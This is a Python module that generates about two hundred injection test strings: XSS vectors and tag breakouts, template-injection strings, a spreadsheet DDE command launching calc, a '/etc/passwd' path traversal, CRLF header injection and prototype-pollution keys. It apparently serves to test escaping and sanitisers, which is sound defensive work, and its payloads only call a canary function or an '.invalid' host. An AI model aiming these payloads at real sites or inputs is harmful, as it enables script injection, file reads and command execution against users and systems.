"""Strings meant to run where text becomes markup: made here from openings, handlers and disguises, none copied.

Each calls `tsunagariRan` or asks a host that is not there, in as many of HTML, attributes, scripts, templates, XML, CSS,
Markdown and spreadsheets as it can.
"""

from __future__ import annotations

from itertools import product

CALL = "tsunagariRan(1)"
ELSEWHERE = "https://ran.invalid/x"
OPENINGS = ("", '"', "'", "`", "-->", "]]>", "</title>", "</script>", "</textarea>", "</style>", '">', "'>")
ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><style><img src=x onerror={CALL}></style>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<base href={ELSEWHERE}/>",
    f"<object data={ELSEWHERE}></object>",
)
ALONE = (
    *(
        f"${{{CALL}}}",
        f"{{{{{CALL}}}}}",
        f"{{{{constructor.constructor('{CALL}')()}}}}",
        f"{{% {CALL} %}}",
        f"#{{{CALL}}}",
    ),
    *(f'" onmouseover={CALL} autofocus onfocus={CALL} x="', f"' onfocus={CALL} autofocus '", f"javascript:{CALL}"),
    *(
        f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
        f"&lt;script&gt;{CALL}&lt;/script&gt;",
        f"%3Cscript%3E{CALL}%3C/script%3E",
    ),
    *(f"&#60;img src=x onerror={CALL}&#62;", f"＜script＞{CALL}＜/script＞", f"<<script>{CALL}//<</script>"),
    *(f"<scr<script>ipt>{CALL}</script>", f"<img/src='x'/onerror={CALL}//", f"<!--><img src=x onerror={CALL}>"),
    *(
        f"[x](javascript:{CALL})",
        f"![x]({ELSEWHERE})",
        f"<javascript:{CALL}>",
        f"[x]: javascript:{CALL}",
        f"*a*{{: onclick={CALL}}}",
    ),
    *(f"<![CDATA[<script>{CALL}</script>]]>", f"<?xml-stylesheet href='{ELSEWHERE}'?>", "&amp;lt;script&amp;gt;"),
    *(f'=HYPERLINK("{ELSEWHERE}")', "=cmd|' /C calc'!A0", "+1+cmd", "-1+cmd", "@SUM(1)", "＝cmd", "・=cmd"),
    *(f"';{CALL};//", f'";{CALL};//', f"</script><script>{CALL}//", f"*/{CALL}/*", "\\", '\\\\"', "%0d%0aX: 1"),
    *("__proto__", "constructor", "toString", "~/", '="~/evil/"', "../../../etc/passwd", "NaN", "null", "undefined"),
    *("BEGIN:VEVENT", "a;b:c,d\\n", "𝕏👩‍👩‍👧‍👦", "<rt>x</rt>", 'data-listing="x"', f"javascript://%250A{CALL}//"),
)
STRINGS = (*ALONE, *(f"{opening}{element}" for opening, element in product(OPENINGS, ELEMENTS)))
"""All of them, some two hundred."""
